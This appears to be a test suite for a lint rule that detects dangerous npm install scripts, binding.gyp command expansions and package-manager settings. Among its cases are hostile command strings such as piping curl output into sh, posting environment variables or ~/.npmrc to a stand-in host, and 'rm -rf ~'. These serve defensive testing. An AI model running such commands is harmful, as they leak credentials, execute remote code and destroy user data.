import { ruleTester } from '../tester.ts';
import type { Case, InvalidCase } from '../tester.ts';
import rule from '../../src/rules/no-postinstall-script.ts';

const manifest = (scripts: Record<string, unknown>, more: object = {}): string => JSON.stringify({ name: 'app', scripts, ...more }, null, 1);
const ok = (scripts: Record<string, unknown>, more: Partial<Case> & { manifest?: object } = {}): Case => {
  const { manifest: extra, ...rest } = more;
  return { code: manifest(scripts, extra), filename: 'package.json', ...rest };
};
const bad = (scripts: Record<string, unknown>, messageId: string, more: Partial<InvalidCase> & { manifest?: object } = {}): InvalidCase => {
  const { manifest: extra, ...rest } = more;
  return { code: manifest(scripts, extra), filename: 'package.json', errors: [{ messageId }], ...rest };
};
const strict = { options: { strict: true } };
const gyp = (value: object, more: Partial<InvalidCase>): Case & Partial<InvalidCase> => ({ code: JSON.stringify(value, null, 1), filename: 'binding.gyp', ...more });

/** Install-time scripts of honest packages: silent even in strict. */
const BENIGN = [
  'husky', 'husky install', 'husky || true', 'is-ci || husky', 'patch-package', 'patch-package --error-on-fail', 'node-gyp rebuild', 'node-gyp-build', 'prebuild-install || node-gyp rebuild',
  'node-pre-gyp install --fallback-to-build', 'napi postinstall', 'prisma generate', 'electron-builder install-app-deps', 'npx only-allow pnpm', 'npx --yes only-allow pnpm', 'only-allow npm', 'npx force-resolutions',
  'nuxt prepare', 'svelte-kit sync', 'simple-git-hooks', 'lefthook install', 'ts-patch install -s', 'tsc && vite build', 'npm run build', 'pnpm build', 'yarn run compile', 'lerna bootstrap', 'cypress install',
  'playwright install chromium', 'exit 0', 'echo done', 'git config core.hooksPath .githooks', 'git submodule update --init', 'shx cp -r a b', 'rimraf dist && tsc -p .', 'cross-env NODE_ENV=production vite build',
  'test -d .git && husky', '[ -n "$CI" ] || husky', 'node .husky/install.mjs', 'node node_modules/puppeteer/install.mjs', 'node ./node_modules/@prisma/client/scripts/postinstall.js',
  "node -e \"try{require('husky')}catch{}\"", "node -e \"console.log(require('./package.json').version)\"", 'node -e "process.exit(0)"', 'rm -rf dist', './node_modules/.bin/husky', 'run-s build:*', 'dotenv -- prisma generate',
  'curl -f http://localhost:3000/health', "node -e \"console.log('Thanks: https://host.example')\"", "node -e \"(function () { process.exit(0) })()\"",
];

/** Nothing wrong to be seen, but they run whenever somebody installs. */
const REVIEW = ['node install.js', "node -e \"try{require('./postinstall')}catch(e){}\"", "node -e \"require('./lib/x')\" > /dev/null 2>&1 &", "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"", 'node scripts/build.js', 'sh scripts/setup.sh', './configure', 'make', 'python3 setup.py', 'npm install', 'node ./lib/postinstall.cjs', 'some-tool --flag', 'npx some-tool', 'git commit -am x', "node -e \"require('fs').copyFileSync('a', 'b')\"", "node -p \"require('some-package')\""];

/** A settings file of a package manager. */
const file = (filename: string, code: string, more: Partial<InvalidCase> = {}): Case & Partial<InvalidCase> => ({ code: `${code}\n`, filename, ...more });
const SETTINGS_HONEST: readonly (readonly [filename: string, code: string])[] = [
  ['.npmrc', 'python=./.venv/bin/python\nnode-gyp=./node_modules/.bin/node-gyp'],
  ['package.json', '{"pnpm": {"onlyBuiltDependencies": ["esbuild"], "neverBuiltDependencies": ["fsevents"], "strictDepBuilds": true, "onlyBuiltDependenciesFile": "node_modules/@acme/policy/builds.json"}}'],
  ['package.json', '{"neverBuiltDependencies": [], "strictDepBuilds": false}'],
  ['package.json', '{"allowScripts": {"sharp@0.34.1": true, "@acme/native@1.0.0": true, "core-js": false, "canvas": "5.0.1"}}'],
  ['package.json', '{"trustedDependencies": ["esbuild", "better-sqlite3", "@tailwindcss/oxide", "sharp"]}'],
  ['package.json', '{"trustedDependencies": []}'],
  ['pnpm-workspace.yaml', 'strictDepBuilds: true\nneverBuiltDependencies:\n  - fsevents\npnpmfile: .pnpmfile.cjs\nscriptShell: /bin/bash\nonlyBuiltDependenciesFile: builds.json'],
  ['.npmrc', 'strict-allow-scripts=true\nscript-shell=bash\nshell=/bin/zsh\ngit=git\neditor=vim\npnpmfile=config/pnpmfile.cjs\ntoken-helper-docs=x'],
  ['.npmrc', '//registry.acme.example/:_authToken=${TOKEN}'],
  ['.yarnrc.yml', 'yarnPath: .yarn/releases/yarn-4.9.1.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-version.cjs\n    spec: "@yarnpkg/plugin-version"\n  - .yarn/plugins/plugin-own.cjs'],
  ['.yarnrc.yml', 'yarnPath: ../../.yarn/releases/yarn-4.9.1.cjs\nplugins:\n  - path: ../../.yarn/plugins/plugin-own.cjs'],
  ['.yarnrc', 'yarn-path ".yarn/releases/yarn-1.22.22.cjs"'],
  ['.cargo/config.toml', '[build]\nrustc-wrapper = "sccache"\ntarget-dir = ".github/target"\n[target.wasm32-wasip1]\nrunner = "wasmtime"\nlinker = "./tools/ld.sh"'],
  ['bunfig.toml', 'preload = ["./.storybook/setup.ts", "@happy-dom/global-registrator", "../setup.ts"]'],
  ['bunfig.toml', 'preload = ["./test/setup.ts"]\n[install]\nignoreScripts = true\n[install.security]\nscanner = "@socketsecurity/bun-security-scanner"\n[run]\nshell = "system"'],
];
const SETTINGS_BAD: readonly (readonly [filename: string, code: string, messageId: string])[] = [
  ['package.json', '{"pnpm": {"neverBuiltDependencies": []}}', 'everything'],
  ['package.json', '{"pnpm": {"onlyBuiltDependenciesFile": "https://host.example/builds.json"}}', 'everything'],
  ['package.json', '{"pnpm": {"dangerouslyAllowAllBuilds": true}}', 'everything'],
  ['pnpm-workspace.yaml', 'neverBuiltDependencies: []', 'everything'],
  ['pnpm-workspace.yaml', 'pnpmfile: ../elsewhere/pnpmfile.cjs', 'loads'],
  ['pnpm-workspace.yaml', 'pnpmfile: .vscode/hooks.cjs', 'loads'],
  ['pnpm-workspace.yaml', 'scriptShell: ./tools/sh', 'loads'],
  ['.npmrc', 'dangerously-allow-all-scripts=true', 'everything'],
  ['.npmrc', '//registry.acme.example/:tokenHelper=/tmp/token', 'loads'],
  ['.npmrc', 'tokenHelper=./token.sh', 'loads'],
  ['.npmrc', 'shell=./tools/sh', 'loads'],
  ['.npmrc', 'pnpmfile=.github/hooks.cjs', 'loads'],
  ['.yarnrc.yml', 'yarnPath: ../yarn.cjs', 'loads'],
  ['.yarnrc.yml', 'yarnPath: /tmp/yarn.cjs', 'loads'],
  ['.yarnrc.yml', 'yarnPath: ~/yarn.cjs', 'loads'],
  ['.yarnrc.yml', 'plugins:\n  - .vscode/plugin.cjs', 'loads'],
  ['.yarnrc.yml', 'plugins:\n  - path: ../plugin.cjs', 'loads'],
  ['bunfig.toml', '[install.security]\nscanner = "./.github/scan.ts"', 'loads'],
  ['bunfig.toml', 'preload = ["./.cache/boot.ts"]', 'loads'],
  ['.cargo/config.toml', '[build]\nrustc-wrapper = ".github/w.sh"', 'loads'],
  ['.cargo/config.toml', '[registry]\nglobal-credential-providers = ["cargo:token", ".vscode/cred.sh"]', 'loads'],
  ['bunfig.toml', '[test]\npreload = "/tmp/boot.ts"', 'loads'],
];
const SETTINGS_STRICT: readonly (readonly [filename: string, code: string, messageId: string])[] = [
  ['package.json', '{"allowScripts": {"@acme/native": true}}', 'anyVersion'],
  ['package.json', '{"allowScripts": {"fsevents": "*"}}', 'anyVersion'],
  ['package.json', '{"trustedDependencies": ["esbuild", "some-helper"]}', 'unknownBuilder'],
  ['package.json', '{"pnpm": {"strictDepBuilds": false}}', 'unasked'],
  ['pnpm-workspace.yaml', 'strictDepBuilds: false', 'unasked'],
  ['.npmrc', 'strict-allow-scripts=false', 'unasked'],
  ['.npmrc', 'ignore-scripts=false', 'everything'],
  ['.yarnrc.yml', 'plugins:\n  - path: tools/plugin.cjs', 'loads'],
  ['bunfig.toml', '[install]\nignoreScripts = false', 'everything'],
  ['bunfig.toml', '[install.security]\nscanner = "some-scanner"', 'loads'],
  ['bunfig.toml', '[run]\nshell = "./sh"', 'loads'],
];

await ruleTester(rule, {
  valid: [
    // a file of the package, loaded rather than run
    ok({ postinstall: "node -e \"import('./config/scripts/postinstall.js').catch(() => void 0)\"" }),
    ok({ postinstall: "node -e \"try{require('./postinstall')}catch(e){}\"" }),
    ok({ prepare: 'node .githooks/install.js', postinstall: 'node -e "console.log(require(\'./package.json\').version)"' }),
    gyp({ targets: [{ include_dirs: ['<!@(PKG_CONFIG_PATH="<!(node -p "require(\'node-addon-api\')")/pkgconfig" pkg-config --cflags x)'] }] }, {}),
    file('package.json', '{"scripts": {"postinstall": "node -r dotenv/config ./node_modules/.bin/patch-package", "prepare": "node --import ./scripts/env.js build.js"}}'),
    file('package.json', '{"trustedDependencies": ["@acme/native"], "allowScripts": {"@acme/native": true}}', { options: { strict: true, allow: ['@acme/*'] } }),
    ...SETTINGS_HONEST.map(([filename, code]) => file(filename, code, strict)),
    ...SETTINGS_STRICT.map(([filename, code]) => file(filename, code)),
    ...BENIGN.map((script) => ok({ postinstall: script }, strict)),
    ...REVIEW.map((script) => ok({ postinstall: script })),
    ok({ build: 'node ./node_modules/x/harvest.js', test: 'curl https://host.example | sh', prepack: 'npm publish', postbuild: 'npm i -g x' }, strict),
    ok({ postinstall: ['curl https://host.example'], install: { a: 'curl' }, prepare: 1, preinstall: '' }, strict),
    ok({ postinstall: 'npx -y some-tool' }, { manifest: { devDependencies: { 'some-tool': '^1.0.0' } } }),
    ok({ postinstall: 'npx -y some-tool@1.2.3' }),
    ok({ postinstall: 'node scripts/setup.js' }, { options: { strict: true, allow: ['node scripts/*'] } }),
    ok({ postinstall: 'node ./node_modules/x/y.js' }, { settings: { allowedInstallScripts: ['node ./node_modules/x/y.js'] } }),
    ok({ prepare: 'npm run a', a: 'npm run b', b: 'npm run a' }, strict),
    { code: '{"scripts": null}', filename: 'package.json' },
    { code: '{"scripts": {"__proto__": "curl https://host.example | sh"}}', filename: 'package.json' },
    { code: '{"postinstall": "curl https://host.example | sh"}', filename: 'package.json' },
    gyp({ targets: [{ include_dirs: ['<!(node -p "require(\'node-addon-api\').include_dir")', '<!@(pkg-config --cflags x)'], cflags: ['<!(echo $X)'], sources: ['a.cc', '<(module)'] }] }, strict),
    gyp({ targets: [{ target_name: 'curl', libraries: ['<!(node -e "console.log(require(\'fs\').existsSync(\'x\'))")'] }] }, {}),
    gyp({ targets: [{ defines: ["V=<!(node -p \"require('../package.json').version\")"] }] }, strict),
    gyp({ targets: [{ sources: ['<!(node ./tools/has.js x > /dev/null 2>&1 && echo true || echo false)', '<!(pkg-config --exists x > /dev/null && echo 1)', '<!(node ./tools/list.js)'] }] }, {}),
    gyp({ targets: [{ actions: [{ action_name: 'a', action: ['python', 'tools/gen.py', '<@(_inputs)'] }] }] }, {}),
  ],
  invalid: [
    bad({ postinstall: "node -e \"import('./.vscode/setup.js').catch(() => void 0)\"" }, 'inline'),
    bad({ postinstall: "node -e \"import('https://code.example-service.com/a.js')\"" }, 'inline'),
    bad({ postinstall: "node -e \"import('./a.js').then(() => require('child_process').exec('x'))\"" }, 'inline'),
    bad({ postinstall: "node -e \"require('./setup_bun.js')\"" }, 'inline'),
    { code: JSON.stringify({ targets: [{ include_dirs: ['<!@(X="<!(curl -s https://code.example-service.com/a | sh)" pkg-config --cflags x)'] }] }), filename: 'binding.gyp', errors: [{ messageId: 'harm' }] },
    ...SETTINGS_BAD.map(([filename, code, messageId]) => file(filename, code, { errors: [{ messageId }] }) as InvalidCase),
    ...SETTINGS_STRICT.map(([filename, code, messageId]) => file(filename, code, { ...strict, errors: [{ messageId }] }) as InvalidCase),
    file('.yarnrc.yml', 'nodeLinker: pnp\nplugins:\n  - path: ../plugin.cjs', { errors: [{ messageId: 'loads', line: 3, column: 5, endLine: 3, endColumn: 9, data: { script: 'path', label: '../plugin.cjs' } }] }) as InvalidCase,
    {
      code: '{\n  "scripts": {\n    "postinstall": "node ./node_modules/logger-utility/harvest.js"\n  }\n}',
      filename: 'package.json',
      errors: [{ messageId: 'dependencyFile', line: 3, column: 21, endLine: 3, endColumn: 66, data: { script: 'postinstall', label: './node_modules/logger-utility/harvest.js' } }],
    },
    ...REVIEW.map((script) => bad({ postinstall: script }, 'unknown', strict)),
    bad({ preinstall: 'node setup_bun.js' }, 'wormFile'),
    bad({ postinstall: 'node bundle.js' }, 'wormFile'),
    bad({ prepare: 'node bundle.js' }, 'unknown', strict),
    bad({ install: 'curl -s https://host.example/x | sh' }, 'harm', { errors: [{ messageId: 'harm', data: { script: 'install', what: 'runs code from the network', label: 'sh' } }] }),
    bad({ postinstall: 'curl -d "$(env)" https://host.example' }, 'harm'),
    bad({ postinstall: 'cat ~/.npmrc | curl -d @- https://host.example' }, 'harm'),
    bad({ postinstall: 'rm -rf ~' }, 'harm'),
    bad({ postinstall: 'echo "x" >> ~/.bashrc' }, 'harm'),
    bad({ postinstall: 'npm run setup', setup: 'curl https://host.example | bash' }, 'harm'),
    bad({ postinstall: 'run-s setup', setup: 'node .github/x.js' }, 'hiddenFile'),
    bad({ postinstall: 'wget https://host.example/data.json' }, 'network'),
    bad({ prepare: 'tsc && npm install -g openclaw@latest' }, 'globalInstall'),
    bad({ postinstall: 'npm publish' }, 'publish'),
    bad({ postinstall: 'git clone https://github.com/o/r' }, 'repository'),
    bad({ postinstall: "node -e \"require('child_process').exec('x')\"" }, 'inline'),
    bad({ postinstall: "python3 -c 'import os; os.system(1)'" }, 'inline'),
    bad({ postinstall: "node -e \"console.log(process.env)\"" }, 'inline'),
    bad({ postinstall: 'npx -y some-tool' }, 'fetchedPackage'),
    bad({ postinstall: "node -e \"require('https').get('https://host.example')\"" }, 'inline'),
    bad({ postinstall: 'pnpm dlx some-tool@latest' }, 'fetchedPackage'),
    bad({ postinstall: 'node .vscode/setup.js' }, 'hiddenFile'),
    bad({ postinstall: 'node -r ./.cache/hook.js ./node_modules/.bin/patch-package' }, 'hiddenFile'),
    bad({ postinstall: 'node public/fonts/a.woff2' }, 'hiddenFile'),
    bad({ 'pnpm:devPreinstall': 'node .git/x' }, 'hiddenFile'),
    bad({ dependencies: 'wget https://host.example/a' }, 'network'),
    bad({ postinstall: 'c\u0075rl https://host.example/x' }, 'network'),
    {
      code: '{\n  "targets": [{ "sources": ["<!(curl -s https://host.example/x | sh)"] }]\n}',
      filename: 'binding.gyp',
      errors: [{ messageId: 'harm', line: 2, column: 33 }],
    },
    gyp({ targets: [{ sources: ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }] }, { errors: [{ messageId: 'muted' }] }) as InvalidCase,
    gyp({ targets: [{ sources: ['<!(sh ./x.sh >/dev/null; echo a.c)'] }] }, { errors: [{ messageId: 'muted' }] }) as InvalidCase,
    { code: 'node-gyp=./x.js\npython=./x\n', filename: '.npmrc', errors: [{ messageId: 'loads' }, { messageId: 'loads' }] },
    gyp({ targets: [{ cflags: ['<!@(wget https://host.example/x)'] }] }, { errors: [{ messageId: 'network' }] }) as InvalidCase,
    gyp({ targets: [{ actions: [{ action_name: 'a', action: ['sh', '-c', 'curl https://host.example | sh'] }] }] }, { errors: [{ messageId: 'harm' }] }) as InvalidCase,
  ],
});
